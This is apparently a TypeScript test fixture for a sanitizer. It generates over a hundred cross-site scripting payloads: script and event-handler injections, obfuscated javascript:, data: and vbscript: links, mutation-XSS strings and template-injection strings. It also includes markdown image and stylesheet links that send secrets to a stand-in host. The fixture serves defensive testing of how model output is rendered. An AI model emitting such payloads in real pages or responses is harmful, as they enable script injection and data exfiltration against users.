/** Texts of a hostile model, scenario or endpoint. `pwned()` opens a dialog; elsewhere.example must never be asked. */
const written: readonly string[] = [
  "<script>alert('pwned')</script>",
  "<img src=x onerror=alert('pwned')>",
  "<svg onload=alert('pwned')></svg>",
  "<iframe src=\"javascript:alert('pwned')\"></iframe>",
  "<iframe srcdoc=\"<script>alert('pwned')</script>\"></iframe>",
  "<a href=\"javascript:alert('pwned')\">click</a>",
  "[click](javascript:alert('pwned'))",
  "[click](JaVaScRiPt:alert('pwned'))",
  "[click](data:text/html,<script>alert('pwned')</script>)",
  "[click](vbscript:alert('pwned'))",
  "![leak](https://elsewhere.example/?secret=1)",
  "![leak](//elsewhere.example/?secret=2)",
  '<link rel="stylesheet" href="https://elsewhere.example/x.css">',
  "<style>@import 'https://elsewhere.example/x.css';</style>",
  '<object data="https://elsewhere.example/x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
  "<form action=\"https://elsewhere.example/\"><button autofocus onfocus=alert('pwned')>x</button></form>",
  "\"><details open ontoggle=alert('pwned')>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('pwned')&gt;\">",
  "<base href=\"https://elsewhere.example/\">${alert('pwned')}{{constructor.constructor('alert(1)')()}}",
  "[ref]: https://elsewhere.example/leak.png\n![x][ref] <video src=https://elsewhere.example/v autoplay>",
];

const handlers = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
];
const elements = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee"];
const targets = [
  "javascript:alert('pwned')",
  "java\tscript:alert('pwned')",
  "&#106;avascript:alert('pwned')",
  " javascript:alert('pwned')",
  "javascript&colon;alert('pwned')",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==",
  "https://elsewhere.example/?secret=3",
];
const places = [
  (target: string) => `[click](<${target}>)`,
  (target: string) => `<${target}>`,
  (target: string) => `![x](${target})`,
];

/** A hundred and more of them: those written by hand, every handler on every element, every address in every place. */
export const hostileTexts: readonly string[] = [
  ...written,
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert('pwned')>`)),
  ...targets.flatMap((target) => places.map((place) => place(target))),
  "</script><script>alert('pwned')</script>",
  "<!--<script>alert('pwned')</script>",
  "__REHEARSAL_REPORT_DATA__</script><script>alert('pwned')</script>",
];
